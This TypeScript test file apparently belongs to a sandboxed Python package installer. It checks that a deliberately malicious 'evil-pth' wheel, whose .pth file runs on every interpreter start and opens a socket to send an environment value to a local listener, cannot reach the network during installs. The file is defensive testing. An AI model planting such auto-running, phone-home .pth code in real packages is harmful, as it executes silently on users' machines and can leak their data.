import assert from "node:assert/strict";
import { startPypiIndex } from "../../../tests/support/pypi_index.ts";
import {
  createPythonSessions,
  ignoreUnless,
  skipReason,
} from "../../../tests/support/python_sessions.ts";
import { createSandboxRunner } from "../sandbox/mod.ts";
import { pkgInstall } from "./pkg_install.ts";
import { sandboxEnv } from "./env.ts";
import { sandboxLimits } from "./launch.ts";
import { venvMount } from "./venv.ts";

const ignore = ignoreUnless("pkg.install sandbox", await skipReason());

Deno.test({
  name: "pkgInstall() never runs code an installed wheel added while pip has network",
  ignore,
  async fn() {
    // a .pth file runs at every interpreter start in the venv; this one phones home
    using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const port = listener.addr.port;
    // what each connection said: the MARK variable of the process that made it
    const heard: string[] = [];
    const { promise: heardOld, resolve: oldArrived } = Promise.withResolvers<void>();
    const accepting = (async () => {
      for await (const conn of listener) {
        const said = await new Response(conn.readable).text().catch(() => "?");
        heard.push(said);
        if (said === "old") oldArrived();
      }
    })().catch(() => {});
    const pth = `import os, sys, socket; sys.stderr.write("pth-ran\\n"); ` +
      `s = socket.create_connection(("127.0.0.1", ${port}), timeout=2); ` +
      `s.sendall(os.environ.get("MARK", "pip").encode()); s.close()\n`;
    await using index = await startPypiIndex([
      { name: "evil-pth", version: "1.0", files: { "evil_pth.pth": pth } },
      { name: "demo-pkg", version: "1.0.0" },
    ]);
    await using sessions = await createPythonSessions();
    const a = await sessions.session("a");
    const runner = createSandboxRunner({ insecureNoSandbox: false });
    const deps = { runner, pipIndexUrl: index.url };

    const evil = await pkgInstall(a.ctx, { packages: ["evil-pth"] }, deps);
    assert.ok(evil.ok && !evil.is_error, evil.ok ? evil.error_text ?? "" : "");
    const second = await pkgInstall(a.ctx, { packages: ["demo-pkg"] }, deps);
    assert.ok(second.ok);
    assert.equal(second.is_error, undefined, second.error_text ?? "");
    assert.deepEqual(second.result.installed, [{ name: "demo-pkg", version: "1.0.0" }]);
    // the .pth did run in the offline steps, where it could not connect
    assert.match(second.result.output_tail, /pth-ran/);

    // the check can see an escape: the venv's interpreter started the way pip used to be
    // (`/venv/bin/python3 -I` with network) reaches the listener. Connections are accepted
    // in order, so once this one is heard, any made during the installs was heard before.
    const old = await runner.run({
      argv: ["/venv/bin/python3", "-I", "-c", "pass"],
      workspace: a.ctx.workspace,
      cwd: "/tmp",
      env: { ...sandboxEnv(true), MARK: "old" },
      mounts: [venvMount(a.ctx, false)],
      network: true,
      limits: sandboxLimits(a.ctx.limits),
      timeoutMs: 30_000,
      outputLimitBytes: 65_536,
    });
    assert.equal(old.exitCode, 0, old.stderr);
    await heardOld;
    listener.close();
    await accepting;
    assert.equal(heard[0], "old", `connections during the installs: ${heard.join(", ")}`);
  },
});
